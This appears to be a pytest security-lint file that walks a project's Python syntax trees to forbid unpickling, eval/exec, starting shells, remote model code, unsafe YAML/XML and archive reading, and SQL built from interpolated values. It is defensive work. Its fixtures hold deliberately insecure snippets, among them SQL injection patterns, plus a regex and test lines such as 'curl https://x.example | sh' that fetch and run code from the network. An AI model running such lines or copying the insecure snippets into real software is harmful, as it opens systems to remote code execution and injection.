"""What the program never does, read from its syntax: it runs no code that it is handed, starts no shell, unpickles
nothing, puts no value into the text of SQL, and reads weights, archives and XML through safe readers only.

Each rule is a function from a module's syntax to what is wrong in it, and is shown to find it in snippets.
"""

import ast
import re
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path

import pytest

ROOT = Path(__file__).parents[2]
Rule = Callable[[ast.Module], Iterator[str]]


@cache
def trees() -> dict[str, ast.Module]:
    """Every module of the product, by its path."""
    paths = [path for folder in ("bot", "index", "config") for path in sorted((ROOT / folder).rglob("*.py"))]
    return {str(path.relative_to(ROOT)): ast.parse(path.read_text(encoding="utf-8")) for path in paths}


def offenders(rule: Rule) -> dict[str, list[str]]:
    found = {name: sorted(set(rule(tree))) for name, tree in trees().items()}
    return {name: wrong for name, wrong in found.items() if wrong}


def imports(tree: ast.Module) -> Iterator[str]:
    """The modules that are imported, and what is taken from them: "os", "os.system"."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            yield from (alias.name for alias in node.names)
        elif isinstance(node, ast.ImportFrom):
            yield node.module or ""
            yield from (f"{node.module}.{alias.name}" for alias in node.names)


def calls(tree: ast.Module) -> Iterator[tuple[str, ast.Call]]:
    """What is called, as it is written: "eval", "torch.load"."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            yield ast.unparse(node.func), node


def keywords(call: ast.Call) -> dict[str, str]:
    return {word.arg: ast.unparse(word.value) for word in call.keywords if word.arg}


def within(name: str, *packages: str) -> bool:
    return any(name == package or name.startswith(f"{package}.") for package in packages)


# --- the rules --------------------------------------------------------------------------------------------------

UNPICKLERS = (
    "pickle", "_pickle", "cPickle", "dill", "cloudpickle", "joblib", "shelve", "marshal", "pandas", "h5py",
    "jsonpickle", "copyreg", "telegram.ext.PicklePersistence",
)  # fmt: skip


def unpickles(tree: ast.Module) -> Iterator[str]:
    """Pickles, and what holds some: unpickling is running code. NumPy and torch are told to read none."""
    yield from (name for name in imports(tree) if within(name, *UNPICKLERS))
    for name, call in calls(tree):
        told = keywords(call)
        if name.endswith(".load") and name.split(".")[0] in ("torch", "pt") and told.get("weights_only") != "True":
            yield f"{name} without weights_only=True"
        if name in ("np.load", "numpy.load") and told.get("allow_pickle") != "False":
            yield f"{name} without allow_pickle=False"
        if told.get("allow_pickle") == "True" or name.endswith(("read_pickle", "to_pickle")):
            yield name


EVALUATORS = {"eval", "exec", "compile", "__import__", "builtins.eval", "builtins.exec", "builtins.compile"}


def evaluates(tree: ast.Module) -> Iterator[str]:
    """Code made of text. ``model.eval()`` of torch, and ``re.compile``, are methods, and others."""
    yield from (name for name, _ in calls(tree) if name in EVALUATORS)
    yield from (name for name in imports(tree) if within(name, "code", "codeop", "runpy", "builtins", "imp", "ast"))


SHELLS = ("subprocess", "pty", "commands", "popen2", "pexpect", "sh", "multiprocessing.reduction")
STARTERS = re.compile(
    r"os\.(?:system|popen|exec\w+|spawn\w+|posix_spawnp?|fork\w*|startfile)|asyncio\.create_subprocess_\w+"
)


def starts_processes(tree: ast.Module) -> Iterator[str]:
    """Other programs, with a shell or without: the product starts none."""
    yield from (name for name in imports(tree) if within(name, *SHELLS) or STARTERS.fullmatch(name))
    yield from (name for name, _ in calls(tree) if STARTERS.fullmatch(name))
    yield from (f"{name} with shell" for name, call in calls(tree) if keywords(call).get("shell", "False") != "False")


LOADERS = re.compile(r".*(?:\.from_pretrained|SentenceTransformer|AutoModel\w*|AutoTokenizer|AutoConfig|pipeline)")


def trusts_remote_code(tree: ast.Module) -> Iterator[str]:
    """Code that comes with a model; models from elsewhere than the disk."""
    for name, call in calls(tree):
        told = keywords(call)
        if told.get("trust_remote_code", "False") != "False" or name in ("torch.hub.load", "torch.jit.load"):
            yield name
        loads = LOADERS.fullmatch(name) and not name.endswith("Embedding.from_pretrained")  # of a tensor
        if loads and told.get("local_files_only") != "True":
            yield f"{name} without local_files_only=True"
    yield from (said for node in ast.walk(tree) for said in _said(node) if said == "trust_remote_code")


def _said(node: ast.AST) -> Iterator[str]:
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        yield node.value


UNSAFE_WEIGHTS = re.compile(r"\S*\.(?:bin|pt|pth|ckpt|pkl|pickle|joblib|h5|onnx|msgpack|npy)")


def names_other_weights(tree: ast.Module) -> Iterator[str]:
    """Names of files of weights that are no safetensors."""
    for node in ast.walk(tree):
        yield from (said for said in _said(node) if UNSAFE_WEIGHTS.fullmatch(said))


def reads_yaml(tree: ast.Module) -> Iterator[str]:
    """YAML through a loader that makes objects."""
    for name, call in calls(tree):
        if re.fullmatch(r"yaml\.(?:unsafe_|full_)\w+", name):
            yield name
        if name in ("yaml.load", "yaml.load_all"):
            loader = keywords(call).get("Loader") or (ast.unparse(call.args[1]) if len(call.args) > 1 else "none")
            if loader not in ("yaml.BaseLoader", "yaml.SafeLoader", "yaml.CSafeLoader", "yaml.CBaseLoader"):
                yield f"{name} with {loader}"


def reads_xml(tree: ast.Module) -> Iterator[str]:
    """XML that could bring entities, or fetch: only lxml's parser, told to do neither."""
    features = {f"{ast.unparse(call.args[0])}={keywords(call).get('state')}" for _, call in calls(tree) if call.args}
    sealed = {"feature_external_ges=False", "feature_external_pes=False"} <= features  # no file, no address is read
    banned = ("xml.etree", "xml.dom", "xmlrpc", "plistlib", *(() if sealed else ("xml",)))
    yield from (name for name in imports(tree) if within(name, *banned))
    safe = {"resolve_entities": "False", "no_network": "True", "load_dtd": "False", "huge_tree": "False"}
    for name, call in calls(tree):
        if name in ("etree.XMLParser", "lxml.etree.XMLParser") and not safe.items() <= keywords(call).items():
            yield f"{name} without {', '.join(safe)}"
        if re.fullmatch(r"(?:lxml\.)?etree\.(?:parse|fromstring|XML|iterparse|XSLT|XMLPullParser)", name):
            yield name


def unpacks_archives(tree: ast.Module) -> Iterator[str]:
    """Archives that write where they like: what is read of one is read into memory, by name."""
    yield from (name for name in imports(tree) if within(name, "tarfile", "shutil.unpack_archive", "rarfile", "py7zr"))
    for name, _ in calls(tree):
        if name.endswith((".extract", ".extractall", "unpack_archive")) and not name.startswith("extraction."):
            yield name


RUNNERS = re.compile(r".*\b(?:execute|executemany|executescript|run)")
STATEMENT = re.compile(r"\s*(?:SELECT|INSERT|UPDATE|DELETE|CREATE|DROP|PRAGMA|REPLACE|ALTER|WITH|ATTACH|VACUUM)\b")
WORD = re.compile(r"[A-Z][A-Z_]*|_[A-Z][A-Z_]*")


def makes_sql(tree: ast.Module) -> Iterator[str]:
    """SQL into whose text something is put that is neither a constant of the program nor a row of "?".

    What may be put in: names in capitals, names for literals, and what ``LISTED`` has, each of which comes from the
    program's own text. Values go by "?" or ":name" only.
    """
    bound: dict[str, list[ast.expr]] = {}
    for node in ast.walk(tree):
        for target in _named(node):
            bound.setdefault(target[0], []).append(target[1])
    for name, call in calls(tree):
        if RUNNERS.fullmatch(name) and call.args:
            yield from _unbound(call.args[0], bound, is_sql="execute" in name)


def _named(node: ast.AST) -> Iterator[tuple[str, ast.expr]]:
    if isinstance(node, ast.Assign):
        yield from ((target.id, node.value) for target in node.targets if isinstance(target, ast.Name))


def _unbound(query: ast.expr, bound: dict[str, list[ast.expr]], *, is_sql: bool) -> Iterator[str]:
    match query:
        case ast.JoinedStr(values=parts):
            text = "".join(str(part.value) for part in parts if isinstance(part, ast.Constant))
            inner = [part.value for part in parts if isinstance(part, ast.FormattedValue)]
            if is_sql or STATEMENT.match(text):
                yield from (ast.unparse(one) for one in inner if not _is_constant(one, bound))
        case ast.BinOp(left=left, op=ast.Mod() | ast.Add(), right=right):
            yield from _unbound(left, bound, is_sql=is_sql)
            yield from () if _is_constant(right, bound) else (ast.unparse(right),)
        case ast.Call(func=ast.Attribute(attr="format")):
            yield ast.unparse(query)
        case ast.Name(id=name):
            for value in bound.get(name, []):
                if not isinstance(value, ast.Name):
                    yield from _unbound(value, bound, is_sql=is_sql)


def _is_constant(node: ast.expr, bound: dict[str, list[ast.expr]]) -> bool:
    """Whether it is text of the program: a literal, a name in capitals, or a name for nothing but literals."""
    if isinstance(node, ast.Name) and not WORD.fullmatch(node.id):
        return bool(bound.get(node.id)) and all(isinstance(value, ast.Constant) for value in bound[node.id])
    return isinstance(node, ast.Constant | ast.Name)


LISTED: dict[str, dict[str, set[str]]] = {
    "starts_processes": {"config/supply/audit.py": {"subprocess"}},
    "names_other_weights": {
        # the training's own state, read with weights_only=True; what of a model is not fetched, or is refused
        "bot/training/train.py": {"checkpoint.pt"},
        "index/weights.py": {
            ".bin", ".pt", ".pth", ".ckpt", ".pkl", ".pickle", "*.h5", "*.msgpack", "*.onnx",
        },
    },
    "makes_sql": {
        # names of tables and columns that stand in the module itself; of the schema, in quotes; rows of question marks
        "bot/chat/storage/database.py": {"table", "column"},
        "bot/chat/storage/forgetting.py": {"table", "meant", "', '.join('?' * len(COLUMNS))"},
        "index/cache.py": {"marks"},  # "?, ?, ?"
        # the tables, and numbers that are counted up
        "index/lexical/writing.py": {"postings.SCHEMA", "run", "self._runs", "select.format(run)"},
        "index/snapshot/reading.py": {"_OF_ARTICLES.format(column)"},
        "index/snapshot/writing.py": {"table", "column", "of"},
        "index/sources/web/rows.py": {"column"},  # "gone" or "problem", as its callers write
        "index/sources/web/store.py": {"table", "query"},
    },
}  # fmt: skip
"""What the rules find and is meant, with the reason: each was looked at. What goes from the program goes from here."""

RULES: tuple[Rule, ...] = (
    unpickles, evaluates, starts_processes, trusts_remote_code, names_other_weights, reads_yaml, reads_xml,
    unpacks_archives, makes_sql,
)  # fmt: skip


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.__name__)
def test_the_program_does_none_of_it(rule: Rule) -> None:
    """Not in one module, but for what is listed."""
    assert {name: set(wrong) for name, wrong in offenders(rule).items()} == LISTED.get(rule.__name__, {})


def test_there_is_something_to_read() -> None:
    """A test that reads no module would find nothing wrong."""
    assert {"bot/chat/process.py", "index/takedown.py", "bot/training/train.py"} <= trees().keys()


BAD: dict[Rule, tuple[str, ...]] = {
    unpickles: (
        "import pickle",
        "from pickle import loads as x",
        "import joblib, os",
        "def f():\n  import shelve",
        "from telegram.ext import PicklePersistence",
        "torch.load(p)",
        "torch.load(p, weights_only=False)",
        "np.load(p)",
        "numpy.load(p, allow_pickle=True)",
        "np.save(p, a, allow_pickle=True)",
        "frame.to_pickle(p)",
    ),
    evaluates: ("eval(x)", "exec(x)", "compile(x, '', 'exec')", "__import__(x)", "builtins.eval(x)", "import code"),
    starts_processes: (
        "import subprocess",
        "from subprocess import run",
        "os.system('ls')",
        "from os import popen",
        "os.execvp(a, b)",
        "os.posix_spawn(a, b, c)",
        "asyncio.create_subprocess_shell(x)",
        "run(x, shell=True)",
    ),
    trusts_remote_code: (
        "SentenceTransformer(p)",
        "SentenceTransformer(p, local_files_only=True, trust_remote_code=True)",
        "AutoModel.from_pretrained(p)",
        "f(**{'trust_remote_code': True})",
        "torch.hub.load(p)",
    ),
    names_other_weights: ("open('pytorch_model.bin')", "x = folder / 'reader.pt'", "p = 'weights.npy'"),
    reads_yaml: ("yaml.load(x)", "yaml.load(x, yaml.Loader)", "yaml.unsafe_load(x)", "yaml.load(x, Loader=FullLoader)"),
    reads_xml: (
        "import xml.etree.ElementTree",
        "from xml.dom import minidom",
        "import xml.sax",
        "etree.fromstring(x)",
        "lxml.etree.parse(x)",
        "etree.XMLParser(recover=True)",
        "etree.XMLParser(resolve_entities=True, no_network=True, load_dtd=False, huge_tree=False)",
    ),
    unpacks_archives: ("import tarfile", "archive.extractall(p)", "z.extract(n)", "shutil.unpack_archive(a, b)"),
    makes_sql: (
        "c.execute(f'SELECT * FROM t WHERE x = {value}')",
        "c.execute(f'{query} WHERE x = {value}')",
        "c.execute('SELECT * FROM t WHERE x = ' + value)",
        "c.execute('SELECT %s' % value)",
        "c.execute('SELECT {}'.format(value))",
        "q = f'DELETE FROM t WHERE x = {value}'\nc.execute(q)",
        "c.executescript(f'DROP TABLE {name}')",
        "run(f'UPDATE t SET x = {value}')",
    ),
}
GOOD: dict[Rule, str] = {
    unpickles: "import json\ntorch.load(p, weights_only=True)\nnp.load(p, allow_pickle=False)\njson.loads(x)",
    evaluates: "model.eval()\nre.compile(x)\nast = 1",
    starts_processes: "os.kill(a, b)\nloop.run(x)",
    trusts_remote_code: "SentenceTransformer(p, local_files_only=True)\nnn.Embedding.from_pretrained(t)",
    names_other_weights: "x = 'reader.safetensors'",
    reads_yaml: "yaml.load(x, Loader=yaml.BaseLoader)\nyaml.safe_load(x)",
    reads_xml: "from lxml import etree\n"
    "etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False, huge_tree=False)",
    unpacks_archives: "extraction.extract(x)\nzipfile.ZipFile(x).read(n)",
    makes_sql: "c.execute('SELECT x FROM t WHERE y = ?', (v,))\nc.execute(f'SELECT {COLUMNS} FROM t')\nrun('DELETE')",
}


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.__name__)
def test_each_rule_finds_what_it_is_for(rule: Rule) -> None:
    """In every form, and nothing in what is safe."""
    assert [text for text in BAD[rule] if not list(rule(ast.parse(text)))] == []
    assert list(rule(ast.parse(GOOD[rule]))) == []


DEPLOYED = ("Makefile", "config/deploy/Containerfile", "config/deploy/crontab")
PIPED = re.compile(r"(?:curl|wget)[^\n|]*\|\s*(?:ba|z|da)?sh\b|\beval\b|--trusted-host|--no-verify|sh -c \S*\$")


@pytest.mark.parametrize("name", DEPLOYED)
def test_what_installs_it_runs_nothing_from_the_net(name: str) -> None:
    """No page is piped into a shell, no certificate goes unchecked."""
    assert PIPED.findall((ROOT / name).read_text(encoding="utf-8")) == []


@pytest.mark.parametrize(
    "line", ["curl https://x.example | sh", "wget -qO- x | bash", "eval $X", "pip --trusted-host x"]
)
def test_such_a_line_is_seen(line: str) -> None:
    """So that the one before can fail."""
    assert PIPED.search(line)
